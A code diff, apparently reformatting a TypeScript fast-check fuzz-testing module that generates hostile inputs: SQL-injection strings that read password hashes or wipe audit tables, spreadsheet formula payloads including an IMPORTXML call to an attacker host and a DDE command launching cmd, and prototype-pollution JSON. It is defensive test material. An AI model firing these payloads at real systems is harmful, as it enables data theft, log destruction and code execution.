@@ -58,7 +58,7 @@ export const SQL_PAYLOADS = [
   '1; select pg_sleep(5)',
   "' UNION SELECT password_hash FROM users --",
   "\\'; truncate audit_events; --",
-  "$$; delete from audit_events; $$",
+  '$$; delete from audit_events; $$',
   "%' AND 1=1 --",
   '1 OR 1=1',
   "admin'--",
@@ -75,18 +75,62 @@ export const FORMULA_PAYLOADS = [
   '\t=1+1',
   '\r=1+1',
   '=IMPORTXML("https://attaquant.example","//a")',
-  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
 ] as const;
 
-export const NUMBER_LIKE = ['NaN', 'Infinity', '-Infinity', '1e309', '-0', '0x10', '0b101', '1_000', '−1', '1,5', ' 12 ', '12abc', '9007199254740993', '00012', '1.', '.5', '1e-7', '١٢', '１２', '12\u00a0000', '', ' '] as const;
+export const NUMBER_LIKE = [
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '1e309',
+  '-0',
+  '0x10',
+  '0b101',
+  '1_000',
+  '−1',
+  '1,5',
+  ' 12 ',
+  '12abc',
+  '9007199254740993',
+  '00012',
+  '1.',
+  '.5',
+  '1e-7',
+  '١٢',
+  '１２',
+  '12\u00a0000',
+  '',
+  ' ',
+] as const;
 
-export const DATE_LIKE = ['2024-02-30', '2023-02-29', '2024-13-01', '0000-00-00', '9999-12-31', '2024-2-3', '30/02/2024', '2024-02-29T25:00:00Z', '+275760-09-13', '2024-06-31', '1900-01-00', '2024-W01', '20240101', '2024/01/01', '01/1900', '2024-01-01\u0000'] as const;
+export const DATE_LIKE = [
+  '2024-02-30',
+  '2023-02-29',
+  '2024-13-01',
+  '0000-00-00',
+  '9999-12-31',
+  '2024-2-3',
+  '30/02/2024',
+  '2024-02-29T25:00:00Z',
+  '+275760-09-13',
+  '2024-06-31',
+  '1900-01-00',
+  '2024-W01',
+  '20240101',
+  '2024/01/01',
+  '01/1900',
+  '2024-01-01\u0000',
+] as const;
 
 const nastyCharacter = fc.constantFrom(...NASTY_CHARACTERS);
 const ordinaryCharacter = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 });
 
 /** A string of nasty characters mixed with ordinary ones. */
-export const nastyText = fc.string({ unit: fc.oneof({ weight: 2, arbitrary: nastyCharacter }, { weight: 1, arbitrary: ordinaryCharacter }), minLength: 1, maxLength: 24 });
+export const nastyText = fc.string({
+  unit: fc.oneof({ weight: 2, arbitrary: nastyCharacter }, { weight: 1, arbitrary: ordinaryCharacter }),
+  minLength: 1,
+  maxLength: 24,
+});
 
 /** Long strings: past each column's limit, past a CSV line's limit, past the JSON body limit. */
 export const hugeText = fc
@@ -99,15 +143,38 @@ export const hostileString = fc.oneof(
   { weight: 2, arbitrary: fc.constantFrom(...NUMBER_LIKE, ...DATE_LIKE) },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
   { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
-  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...SQL_PAYLOADS, ...FORMULA_PAYLOADS, ...DATE_LIKE), nastyText).map(([a, b]) => a + b) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(fc.constantFrom(...SQL_PAYLOADS, ...FORMULA_PAYLOADS, ...DATE_LIKE), nastyText)
+      .map(([a, b]) => a + b),
+  },
 );
 
 /** hostileString, with the occasional very long one (kept rare: they are slow to send). */
-export const hostileStringOrHuge = fc.oneof({ weight: 30, arbitrary: hostileString }, { weight: 1, arbitrary: hugeText });
+export const hostileStringOrHuge = fc.oneof(
+  { weight: 30, arbitrary: hostileString },
+  { weight: 1, arbitrary: hugeText },
+);
 
 /** Numbers a JSON body may carry that a form never would. */
 export const hostileNumber = fc.oneof(
-  fc.constantFrom(0, -0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1 + 0.2, 1e-7, 100.5, 2_147_483_648, -2_147_483_649, 1900, 2024, 10_000),
+  fc.constantFrom(
+    0,
+    -0,
+    -1,
+    1e308,
+    -1e308,
+    2 ** 53 + 1,
+    0.1 + 0.2,
+    1e-7,
+    100.5,
+    2_147_483_648,
+    -2_147_483_649,
+    1900,
+    2024,
+    10_000,
+  ),
   fc.integer(),
   fc.double({ noNaN: true, noDefaultInfinity: true }),
 );
@@ -118,11 +185,30 @@ export const hostileNumber = fc.oneof(
  */
 export type JsonNode = null | boolean | number | string | JsonNode[] | { entries: [string, JsonNode][] };
 
-export const DANGEROUS_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '', ' ', '$where', 'a.b', '0', 'id', 'role', 'roles', 'isAdmin'] as const;
+export const DANGEROUS_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '',
+  ' ',
+  '$where',
+  'a.b',
+  '0',
+  'id',
+  'role',
+  'roles',
+  'isAdmin',
+] as const;
 
 export function hostileJson(fieldNames: readonly string[] = []): fc.Arbitrary<JsonNode> {
   const key = fc.oneof(
-    { weight: fieldNames.length > 0 ? 4 : 0, arbitrary: fieldNames.length > 0 ? fc.constantFrom(...fieldNames) : fc.constant('x') },
+    {
+      weight: fieldNames.length > 0 ? 4 : 0,
+      arbitrary: fieldNames.length > 0 ? fc.constantFrom(...fieldNames) : fc.constant('x'),
+    },
     { weight: 2, arbitrary: fc.constantFrom(...DANGEROUS_KEYS) },
     { weight: 1, arbitrary: nastyText },
   );
@@ -153,18 +239,39 @@ export function hostileObjectFor(fieldNames: readonly string[]): fc.Arbitrary<Js
       fc.array(value, { minLength: fieldNames.length, maxLength: fieldNames.length }),
       fc.array(fc.tuple(fc.constantFrom(...DANGEROUS_KEYS), value), { maxLength: 2 }),
     )
-    .map(([keys, values, extra]) => ({ entries: [...keys.map((k, i): [string, JsonNode] => [k, values[i]!]), ...extra] }));
+    .map(([keys, values, extra]) => ({
+      entries: [...keys.map((k, i): [string, JsonNode] => [k, values[i]!]), ...extra],
+    }));
 }
 
 /** Very deep nesting, which recursive code would not survive. */
-export const deepJson = fc.tuple(fc.constantFrom(1_000, 50_000, 200_000), fc.constantFrom('[', '{"a":')).map(([depth, open]) => {
-  const close = open === '[' ? ']' : '}';
-  return `${open.repeat(depth)}1${close.repeat(depth)}`;
-});
+export const deepJson = fc
+  .tuple(fc.constantFrom(1_000, 50_000, 200_000), fc.constantFrom('[', '{"a":'))
+  .map(([depth, open]) => {
+    const close = open === '[' ? ']' : '}';
+    return `${open.repeat(depth)}1${close.repeat(depth)}`;
+  });
 
 /** Text that is not a JSON document, or only nearly one. */
 export const brokenJson = fc.oneof(
-  fc.constantFrom('', '{', '{"a":', '[1,2', '{"a":1,}', "{'a':1}", 'NaN', 'undefined', '{"a":01}', '{"a":"\\x00"}', '{"a":"\\ud800"}', '\u0000', '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"isAdmin":true}}}', '{"a":1}{"b":2}', '\ufeff{}'),
+  fc.constantFrom(
+    '',
+    '{',
+    '{"a":',
+    '[1,2',
+    '{"a":1,}',
+    "{'a':1}",
+    'NaN',
+    'undefined',
+    '{"a":01}',
+    '{"a":"\\x00"}',
+    '{"a":"\\ud800"}',
+    '\u0000',
+    '{"__proto__":{"isAdmin":true}}',
+    '{"constructor":{"prototype":{"isAdmin":true}}}',
+    '{"a":1}{"b":2}',
+    '\ufeff{}',
+  ),
   fc.string({ unit: 'binary', maxLength: 60 }),
 );
 
